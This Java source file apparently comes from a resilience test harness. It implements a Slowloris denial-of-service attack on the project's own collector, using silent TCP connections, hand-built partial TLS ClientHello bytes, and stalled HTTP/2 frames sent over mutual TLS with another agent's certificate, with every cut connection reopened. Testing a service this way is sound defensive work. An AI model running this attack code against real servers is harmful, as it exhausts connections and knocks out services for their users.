package io.cpstream.harness.attack;

import io.cpstream.security.PkiException;
import io.cpstream.security.Role;
import io.cpstream.security.Tls;
import io.cpstream.security.TlsMaterial;
import io.cpstream.security.TlsSettings;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;

/**
 * Slowloris against a collector: connections that each say a little and then nothing, held for as long as the
 * collector lets them, and opened again as soon as it cuts one. Three kinds, in equal numbers:
 * <ul>
 *   <li>{@code tcp_silent}: a TCP connection that never sends a byte;</li>
 *   <li>{@code tls_partial_hello}: a TLS record header and part of a ClientHello, then silence;</li>
 *   <li>{@code h2_partial_frame}: mutual TLS with a valid agent certificate (of other VMs), the HTTP/2 preface,
 *   the HEADERS of a replication call, and a DATA frame cut short inside a message announced as 4 MiB; pings
 *   go unanswered.</li>
 * </ul>
 * Each connection is one virtual thread, blocked reading until the collector closes it.
 */
final class Slowloris implements AutoCloseable {

    enum Kind { TCP_SILENT, TLS_PARTIAL_HELLO, H2_PARTIAL_FRAME }

    /** After a connection could not be made (refused, limit), wait this long before the next attempt. */
    private static final long RETRY_MILLIS = 100;

    private final InetSocketAddress target;
    private final SSLContext tls;
    private final List<Thread> threads = new ArrayList<>();
    private final Set<Socket> live = ConcurrentHashMap.newKeySet();
    private final Map<Kind, Counters> counters = new LinkedHashMap<>();
    private volatile boolean stopping;

    private static final class Counters {
        final AtomicLong opened = new AtomicLong();
        final AtomicLong cutByCollector = new AtomicLong();
        final AtomicLong failedToConnect = new AtomicLong();
        final AtomicLong heldMillisMax = new AtomicLong();
        final AtomicLong openNow = new AtomicLong();
    }

    /** Starts {@code connectionsPerKind} connections of each kind against {@code target}. */
    Slowloris(InetSocketAddress target, TlsSettings intruder, int connectionsPerKind) throws PkiException {
        this.target = target;
        this.tls = Tls.sockets(TlsMaterial.load(intruder, Role.COLLECTOR));
        for (Kind kind : Kind.values()) {
            counters.put(kind, new Counters());
            for (int i = 0; i < connectionsPerKind; i++) {
                threads.add(Thread.ofVirtual().name("slowloris-" + kind.name().toLowerCase(Locale.ROOT) + "-", i)
                        .start(() -> hold(kind)));
            }
        }
    }

    private void hold(Kind kind) {
        Counters count = counters.get(kind);
        while (!stopping) {
            Socket socket = null;
            try {
                socket = new Socket();
                live.add(socket);
                socket.connect(target, 5000);
                Socket stalled = stall(kind, socket);
                live.add(stalled);
                count.opened.incrementAndGet();
                count.openNow.incrementAndGet();
                long start = System.nanoTime();
                try {
                    drainUntilClosed(stalled.getInputStream());
                } finally {
                    count.openNow.decrementAndGet();
                }
                if (!stopping) {
                    count.cutByCollector.incrementAndGet();
                    count.heldMillisMax.accumulateAndGet((System.nanoTime() - start) / 1_000_000, Math::max);
                }
                live.remove(stalled);
            } catch (IOException e) {
                if (!stopping) {
                    count.failedToConnect.incrementAndGet();
                    sleep();
                }
            } finally {
                if (socket != null) {
                    live.remove(socket);
                    close(socket);
                }
            }
        }
    }

    /** Says the little this kind says; returns the socket to wait on (a TLS one for the partial frame). */
    private Socket stall(Kind kind, Socket socket) throws IOException {
        switch (kind) {
            case TCP_SILENT -> {
                return socket;
            }
            case TLS_PARTIAL_HELLO -> {
                // A handshake record announcing 512 bytes, and the first 40 of a ClientHello.
                byte[] partial = new byte[5 + 40];
                partial[0] = 0x16;
                partial[1] = 0x03;
                partial[2] = 0x01;
                partial[3] = 0x02;
                partial[4] = 0x00;
                partial[5] = 0x01; // ClientHello
                partial[8] = (byte) 0xfc;
                partial[9] = 0x03;
                partial[10] = 0x03;
                socket.getOutputStream().write(partial);
                socket.getOutputStream().flush();
                return socket;
            }
            case H2_PARTIAL_FRAME -> {
                SSLSocket secured = (SSLSocket) tls.getSocketFactory().createSocket(socket, target.getHostString(),
                        target.getPort(), true);
                SSLParameters parameters = secured.getSSLParameters();
                parameters.setApplicationProtocols(new String[] {"h2"});
                secured.setSSLParameters(parameters);
                secured.startHandshake();
                secured.getOutputStream().write(RawHttp2.openStream("https"));
                // A 16 KiB frame of which 1 KiB arrives, inside a message announced as 4 MiB.
                secured.getOutputStream().write(RawHttp2.partialData(16 << 10, 1 << 10, 4 << 20));
                secured.getOutputStream().flush();
                return secured;
            }
            default -> throw new IllegalStateException(kind.toString());
        }
    }

    /** Reads (SETTINGS, PINGs, GOAWAY: never answered) until the collector closes the connection. */
    private static void drainUntilClosed(InputStream in) {
        byte[] buffer = new byte[4096];
        try {
            while (in.read(buffer) >= 0) {
                // discard
            }
        } catch (IOException e) {
            // reset or alert: closed all the same
        }
    }

    private static void sleep() {
        try {
            Thread.sleep(RETRY_MILLIS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // closing
        }
    }

    /** Whether every kind has held at least one connection (the attack is in place). */
    boolean underWay() {
        return counters.values().stream().allMatch(count -> count.opened.get() > 0);
    }

    /** What each kind did: connections opened, cut by the collector, failed to connect, the longest held. */
    Map<String, Object> figures() {
        Map<String, Object> result = new LinkedHashMap<>();
        counters.forEach((kind, count) -> {
            Map<String, Object> figures = new LinkedHashMap<>();
            figures.put("opened", count.opened.get());
            figures.put("cut_by_collector", count.cutByCollector.get());
            figures.put("failed_to_connect", count.failedToConnect.get());
            figures.put("held_s_max", count.heldMillisMax.get() / 1000.0); // of those the collector cut
            figures.put("open_now", count.openNow.get());
            result.put(kind.name().toLowerCase(Locale.ROOT), figures);
        });
        return result;
    }

    @Override
    public void close() throws InterruptedException {
        stopping = true;
        live.forEach(Slowloris::close);
        for (Thread thread : threads) {
            thread.interrupt();
            thread.join(10_000);
        }
    }
}
